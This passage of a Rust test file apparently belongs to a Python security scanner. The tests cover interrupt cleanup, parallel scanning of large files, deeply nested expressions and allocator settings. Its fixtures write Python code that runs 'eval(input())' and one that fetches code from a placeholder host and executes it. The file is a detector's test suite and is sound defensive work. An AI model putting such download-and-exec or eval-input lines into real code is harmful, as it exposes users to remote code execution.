        assert_eq!(status.signal(), Some(libc_sigint()), "ended by SIGINT: {status:?}");
        let left: Vec<_> =
            std::fs::read_dir(&out_dir).expect("read").flatten().map(|e| e.file_name()).collect();
        assert!(left.is_empty(), "files left after the interrupt: {left:?}");
        break;
    }
    assert!(caught, "the report's temporary file was never seen in 5 runs");
}

fn libc_sigint() -> i32 {
    nix::sys::signal::Signal::SIGINT as i32
}

/// Sources over 4 MiB are analysed one at a time (their syntax trees are large): several of
/// them scanned by several workers are all read, and each gives its findings.
#[test]
fn large_sources_are_all_scanned() {
    let dir = repo();
    let filler = "x = 1\n".repeat(800_000); // 4.8 MB
    for i in 0..3 {
        write(dir.path(), &format!("big{i}.py"), format!("{filler}eval(input())\n"));
    }
    // Without the per-file time limit: a test build analyses such a file in seconds, more on a
    // loaded machine, and the limit is not what this test is about (cache.rs's
    // `a_file_over_the_time_limit_is_a_timeout_error_never_cached` is).
    let out = pysbx(dir.path())
        .args(["scan", "--no-cache", "-j", "3", "--max-file-time", "0", "--format", "json", "."])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let mut files: Vec<&str> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule_id"] == "PSB102")
        .filter_map(|f| f["path"].as_str())
        .collect();
    files.sort_unstable();
    assert_eq!(files, ["big0.py", "big1.py", "big2.py"], "{}", stderr(&out));
}

#[test]
fn code_nested_too_deep_hides_nothing_beside_it() {
    // One expression nested past the engine's depth (a chain of 4,500 additions: CPython 3.11
    // and 3.12 refuse to compile it, others run it) is reported as an error, and the rest of
    // the file is still read: the download run beside it is reported.
    let dir = repo();
    let chain = vec!["\"\""; 4500].join(" + ");
    write(
        dir.path(),
        "deep.py",
        format!(
            "import urllib.request\npad = {chain}\nexec(urllib.request.urlopen(\"https://x.example/a\").read())\n"
        ),
    );
    let out = pysbx(dir.path())
        .args(["scan", "--no-cache", "--format", "json", "deep.py"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let report: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    let text = report.to_string();
    assert!(text.contains("levels deep"), "{text}");
    assert!(text.contains("PSB907"), "{text}");
}

/// The scan returns freed pages to the system sooner than jemalloc's default (ten seconds),
/// which keeps its peak memory down (docs/benchmarks.md): the option compiled into the binary
/// is the one jemalloc runs with. `stats_print` makes jemalloc print its options at exit.
#[test]
fn the_scan_runs_with_its_allocators_shorter_decay() {
    let dir = repo();
    write(dir.path(), "ok.py", "x = 1\n");
    let out = pysbx(dir.path())
        .env("_RJEM_MALLOC_CONF", "stats_print:true")
        .args(["scan", "--quiet", "ok.py"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let text = stderr(&out);
    assert!(text.contains("opt.dirty_decay_ms: 500 "), "{text}");
}
